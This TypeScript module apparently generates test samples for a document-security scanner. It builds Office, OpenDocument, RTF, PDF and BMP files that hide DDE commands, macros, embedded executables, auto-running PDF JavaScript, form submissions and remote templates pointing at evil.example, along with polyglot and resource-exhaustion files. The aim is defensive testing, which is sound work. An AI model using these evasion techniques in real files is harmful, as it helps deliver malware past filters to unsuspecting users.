import { PDFDocument } from 'mupdf'
import { compound, excel, word } from './compound.ts'
import { external, openDocument, openXml, relationships } from './office.ts'
import { objectStream, packed, pdf } from './pdf.ts'
import { bitmap } from './pictures.ts'
import { sample, type Sample } from './sample.ts'
import { zip } from './zip.ts'

/** What looks harmless to whoever searches for words, and is not to whoever reads. */
export const hostileBypasses = (): Sample[] => [
  ...letters(),
  ...partsUnderOtherNames(),
  ...openDocuments(),
  ...oldOfficeFiles(),
  ...pdfs(),
  ...lockedPdfs(),
  ...richTexts(),
  ...bitmaps(),
]

const part = (name: string, content: string | Buffer) => ({ name, content })
const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTempl&#97;te'
const templateBy = (mode: string, element = 'Relationship') =>
  relationships(`<${element} Id="r1" Type="${TEMPLATE}" Target="https://evil.example/a.dotm" TargetMode="${mode}"/>`)
const letterWith = (...more: { name: string; content: string | Buffer }[]) => openXml('docx', { more })
const field = (inside: string) => openXml('docx', { body: `<w:document>${inside}</w:document>` })
const mark = (type: string) => `<w:fldChar w:fldCharType="${type}"/>`
const instruction = (text: string) => `<w:instrText>${text}</w:instrText>`

const letters = (): Sample[] => [
  sample('a template hidden by entities', 'a.docx', letterWith(part('word/_rels/s.xml.rels', templateBy('External')))),
  sample(
    'a template whose place is hidden by entities',
    'a.docx',
    letterWith(part('word/_rels/s.xml.rels', templateBy('&#69;xternal'))),
  ),
  sample(
    'a template by another prefix',
    'a.docx',
    letterWith(part('word/_rels/s.xml.rels', templateBy('External', 'x:Relationship'))),
  ),
  sample(
    'a template behind a sign',
    'a.docx',
    letterWith(
      part('word/_rels/s.xml.rels', external('attachedTemplate', 'a>b').replace('Id="r9"', 'Id="r9" Note="a>b"')),
    ),
  ),
  sample(
    'a template in letters of two bytes',
    'a.docx',
    letterWith(part('word/_rels/s.xml.rels', Buffer.from(`\ufeff${templateBy('External')}`, 'utf16le'))),
  ),
  sample(
    'a template in a part of another name',
    'a.docx',
    letterWith(part('word/relations.bin', templateBy('External'))),
  ),
  sample('a command by another prefix', 'a.docx', field('<x:instrText>DDEAUTO "cmd" "/k calc"</x:instrText>')),
  sample('a command in entities', 'a.docx', field(instruction('&#68;DE&#65;UTO "cmd"'))),
  sample('a command in a section of characters', 'a.docx', field(instruction('<![CDATA[DDEAUTO cmd]]>'))),
  sample('a command in an attribute’s entities', 'a.docx', field(`<w:fldSimple w:instr='&#x44;DE "cmd"'/>`)),
  sample(
    'a command in two halves',
    'a.docx',
    field(`${mark('begin')}${instruction('DD')}<w:r/>${instruction('E cmd')}${mark('end')}`),
  ),
  sample(
    'a command that another field spells',
    'a.docx',
    field(
      `${mark('begin')}${mark('begin')}${instruction('SET a')}${mark('separate')}<w:t>DDE cmd</w:t>${mark('end')}${mark('end')}`,
    ),
  ),
  sample(
    'a command in numbers',
    'a.docx',
    field(`${mark('begin')}${mark('begin')}${instruction('QUOTE 68 68 69')}${mark('end')}${mark('end')}`),
  ),
  sample('a link to a program by another prefix', 'a.xlsx', tableWith('<x:ddeLink x:ddeService="cmd"/>')),
  sample('a table that fetches when it opens', 'a.xlsx', tableWith('<connection id="1" refreshOnLoad="1"/>')),
  sample('a letter that is a page', 'a.docx', letterWith(part('word/_rels/a.rels', external('aFChunk', 'a.mht')))),
]

const tableWith = (content: string) => openXml('xlsx', { more: [part('xl/more.xml', content)] })

const vba = () => compound([{ name: '_VBA_PROJECT', content: Buffer.from([0xcc, 0x61, 0xff, 0xff]) }])
const module = () => compound([{ name: 'a', content: Buffer.from('....Attribut\0e VB_Nam\0e = "a"', 'latin1') }])
const override = (type: string) =>
  `<Types><Override PartName="/word/fonts.bin" ContentType="application/vnd.ms-office.${type}"/></Types>`

const partsUnderOtherNames = (): Sample[] => [
  sample('macros under another name', 'a.docx', letterWith(part('word/fonts.bin', vba()))),
  sample('a module under another name', 'a.docx', letterWith(part('word/media/image1.png', module()))),
  sample('macros by their type', 'a.docx', letterWith(part('word/types.xml', override('vba&#80;roject')))),
  sample(
    'macros by their relation',
    'a.docx',
    letterWith(part('word/_rels/a.rels', relationships('<Relationship Type="http://x/vba&#80;roject" Target="a"/>'))),
  ),
  sample('a program as a picture', 'a.docx', letterWith(part('word/media/image1.png', 'MZ\x90\0'))),
  sample('a program of Linux as a picture', 'a.odt', openDocument('odt', [part('Pictures/1.png', '\x7fELF\x02')])),
  sample(
    'a letter with macros in a letter',
    'a.docx',
    letterWith(part('word/embeddings/a.bin', letterWith(part('word/vbaProject.bin', 'x')))),
  ),
  sample(
    'rich text with an object in a letter',
    'a.docx',
    letterWith(part('word/a.dat', '{\\rtf1{\\object\\objemb}}')),
  ),
  sample(
    'a PDF with a script in a letter',
    'a.docx',
    letterWith(part('word/a.dat', pdf({ catalog: '/OpenAction << /S /JavaScript /JS (x) >>' }))),
  ),
  sample('letters in letters in letters', 'a.docx', doll(doll(doll(doll(openXml('docx')))))),
  sample(
    'a part of ten thousand depths',
    'a.docx',
    letterWith(part('word/a.xml', '<a>'.repeat(10_000) + '</a>'.repeat(10_000))),
  ),
  sample(
    'a part of ten thousand attributes',
    'a.docx',
    letterWith(part('word/a.xml', `<a ${Array.from({ length: 10_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`)),
  ),
]

const doll = (inside: Buffer) => letterWith(part('word/embeddings/a.docx', inside))

const odt = (content: string) => openDocument('odt', [part('more.xml', content)])
const openDocuments = (): Sample[] => [
  sample('an event that runs', 'a.odt', odt('<e:event-listener e:action="execute-macro"/>')),
  sample('an event that runs by a name', 'a.odt', odt('<e:event-listener e:macro-name="a"/>')),
  sample('an event in entities', 'a.odt', odt('<a x:href="vnd.sun.star.scr&#105;pt:a"/>')),
  sample('a source that is a program', 'a.ods', openDocument('ods', [part('more.xml', '<o:dde-source o:a="cmd"/>')])),
  sample('a frame from elsewhere', 'a.odt', odt('<d:floating-frame x:href="https://evil.example/"/>')),
  sample('an object from elsewhere', 'a.odt', odt('<d:object x:href="file://evil.example/a"/>')),
  sample('a section from elsewhere', 'a.odt', odt('<t:section-source x:href="//evil.example/a"/>')),
  sample('a library from elsewhere', 'a.odt', odt('<l:library l:link="true" x:href="https://evil.example/a"/>')),
]

const oldOfficeFiles = (): Sample[] => [
  sample(
    'an old letter with a module under another name',
    'a.doc',
    word([{ name: 'Data', content: Buffer.from('Attribut\0e VB_Nam', 'latin1') }]),
  ),
  sample(
    'an old table with a program',
    'a.xls',
    excel(0, [{ name: 'Data', content: Buffer.from('MZ\x90\0', 'latin1') }]),
  ),
  sample(
    'an old letter that starts a program',
    'a.doc',
    compound([
      { name: 'WordDocument', content: Buffer.concat([Buffer.alloc(5_000, 7), Buffer.from('\x13 DDEAUTO c:\\cmd')]) },
    ]),
  ),
  sample(
    'an old letter that starts one in letters of two bytes',
    'a.doc',
    compound([{ name: 'WordDocument', content: Buffer.from('\x13DDE cmd'.padEnd(3_000), 'utf16le') }]),
  ),
]

const SCRIPT = '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'
const stream = (dictionary: string, content: string) => `<< ${dictionary} >>\nstream\n${content}\nendstream`

const pdfs = (): Sample[] => [
  sample(
    'a PDF with a script behind a comment',
    'a.pdf',
    pdf({ head: '%PDF-1.7\n%stream', catalog: SCRIPT, more: [stream('/Length 0', '')] }),
  ),
  sample(
    'a PDF with a script between comments',
    'a.pdf',
    pdf({ catalog: '/OpenAction %a\n<< /S %b\n/JavaScript%c\n/JS (x) >>', head: '%PDF-1.7\n% stream\n% >>' }),
  ),
  sample(
    'a PDF with a script in what seems a stream',
    'a.pdf',
    pdf({ more: [stream('/Length 9', '4 0 obj << /S /JavaScript >> endobj')] }),
  ),
  sample(
    'a PDF with a script packed without a filter',
    'a.pdf',
    pdf({ more: [stream('/Type /ObjStm /N 1 /First 4', '9 0 << /JS (x) >>')] }),
  ),
  sample(
    'a PDF with a script that begins within a string',
    'a.pdf',
    pdf({ more: [packed('/Type /ObjStm /N 1 /First 5', '9 3  ((\n<< /S /JavaScript >>')] }),
  ),
  sample(
    'a PDF with a script in packed packing',
    'a.pdf',
    pdf({
      more: [objectStream('<< /S /JavaScript >>').replace('/Filter /FlateDecode', '/Filter [/AHx /FlateDecode]')],
    }),
  ),
  sample(
    'a PDF with a stream behind a comment',
    'a.pdf',
    pdf({ more: [objectStream('<< /JS (x) >>').replace('stream', '%a\nstream')] }),
  ),
  sample(
    'a PDF that opens an address',
    'a.pdf',
    pdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }),
  ),
  sample(
    'a PDF that sends itself',
    'a.pdf',
    pdf({ catalog: '/AA << /WC << /S /SubmitForm /F (https://evil.example/) >> >>' }),
  ),
  sample(
    'a PDF that sends itself in the end',
    'a.pdf',
    pdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R] /Next [<< /S /SubmitForm >>] >>' }),
  ),
  sample(
    'a PDF whose form computes',
    'a.pdf',
    pdf({ catalog: '/AcroForm << /XFA 4 0 R >>', more: [packed('', '<x:script>a()</x:script>')] }),
  ),
  sample('a PDF with a program', 'a.pdf', pdf({ more: [packed('/Type /EmbeddedFile', 'MZ\x90\0')] })),
  sample(
    'a PDF with a program by its name',
    'a.pdf',
    pdf({ more: ['<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>', packed('', 'rem')] }),
  ),
  sample('a PDF of a hundred million objects', 'a.pdf', hugeTable()),
]

const hugeTable = () => Buffer.from(pdf().toString('latin1').replace('/Size 4', '/Size 99999999'), 'latin1')

/** Locked as banks do it: it opens without a password, and only its streams and strings are unreadable in the file. */
export function lockedPdf(content: Buffer, options: string): Buffer {
  const document = new PDFDocument(content)
  const bytes = Buffer.from(document.saveToBuffer(options).asUint8Array())
  document.destroy()
  return bytes
}

const lockedPdfs = (): Sample[] => [
  sample(
    'a locked PDF with a packed script',
    'a.pdf',
    lockedPdf(pdf({ catalog: SCRIPT }), 'encrypt=aes-256,owner-password=a,objstms=yes,compress=yes'),
  ),
  sample(
    'a PDF that asks for a password',
    'a.pdf',
    lockedPdf(pdf(), 'encrypt=aes-128,user-password=a,owner-password=b'),
  ),
]

const rtf = (inside: string) => Buffer.from(`{\\rtf1 ${inside}}`)
const richTexts = (): Sample[] => [
  sample('rich text with a command in pieces', 'a.rtf', rtf('{\\field{\\*\\fldinst{\\b D}{\\i D}{E}AUTO cmd}}')),
  sample('rich text with a command in hex', 'a.rtf', rtf("{\\field{\\*\\fldinst \\'44\\'44\\'45 cmd}}")),
  sample('rich text with a command in Unicode', 'a.rtf', rtf('{\\field{\\*\\fldinst\\uc1\\u68?\\u68?\\u69? cmd}}')),
  sample('rich text with a command over lines', 'a.rtf', rtf('{\\field{\\*\\fldinst D\r\nD\r\nE cmd}}')),
  sample(
    'rich text with a command behind words',
    'a.rtf',
    rtf('{\\field{\\fldinst{\\lang1033\\insrsid9 \\~}DDE cmd}}'),
  ),
  sample(
    'rich text with a command that a field spells',
    'a.rtf',
    rtf('{\\field{\\fldinst{\\field{\\fldinst SET}{\\fldrslt DDE}} cmd}}'),
  ),
  sample(
    'rich text with a command in numbers',
    'a.rtf',
    rtf('{\\field{\\fldinst{\\field{\\fldinst QUOTE 68 68 69}}}}'),
  ),
  sample('rich text with a picture from elsewhere', 'a.rtf', rtf('{\\field{\\fldinst{IN}{CLUDEPICTURE} "https://e"}}')),
  sample('rich text with a template in a group', 'a.rtf', rtf('{\\*\\template{https://evil.example/a}}')),
  sample('rich text with an object alone', 'a.rtf', rtf('{\\object\\objw1{\\result a}}')),
  sample('rich text with a link of an object', 'a.rtf', rtf('{\\*\\objclass Package}')),
  sample('rich text with bytes and braces', 'a.rtf', rtf('\\bin3 }}}')),
  sample('rich text of ten thousand groups', 'a.rtf', rtf('{'.repeat(10_000) + '}'.repeat(10_000))),
  sample('rich text that goes on behind its end', 'a.rtf', rtf('a}{\\object')),
]

function bitmaps(): Sample[] {
  const over = (text: string) => {
    const picture = bitmap({ width: 200, height: 20 })
    picture.write(text, 60, 'latin1')
    return picture
  }
  const archive = zip([{ name: 'a.class', content: 'a program' }])
  const script = bitmap({ width: 18, height: 199 })
  const length = Buffer.from('/*').readUInt16LE()
  const long = Buffer.concat([script, Buffer.alloc(length)]).subarray(0, length)
  long.writeUInt32LE(length, 2)
  const withArchive = Buffer.concat([bitmap(), archive])
  withArchive.writeUInt32LE(withArchive.length, 2)
  const withTail = Buffer.concat([bitmap(), archive, Buffer.from('a tail')])
  withTail.writeUInt32LE(withTail.length, 2)
  return [
    sample('a BMP and a web page', 'a.bmp', over('<html><body onload=alert(1)>')),
    sample('a BMP and a page without a head', 'a.bmp', over('<img src=x onerror=alert(1)>')),
    sample('a BMP and PHP', 'a.bmp', over('<?php system("id"); ?>')),
    sample('a BMP and a zip', 'a.bmp', withArchive),
    sample('a BMP and a zip with a tail', 'a.bmp', withTail),
    sample('a BMP that begins a comment', 'a.bmp', long),
  ]
}
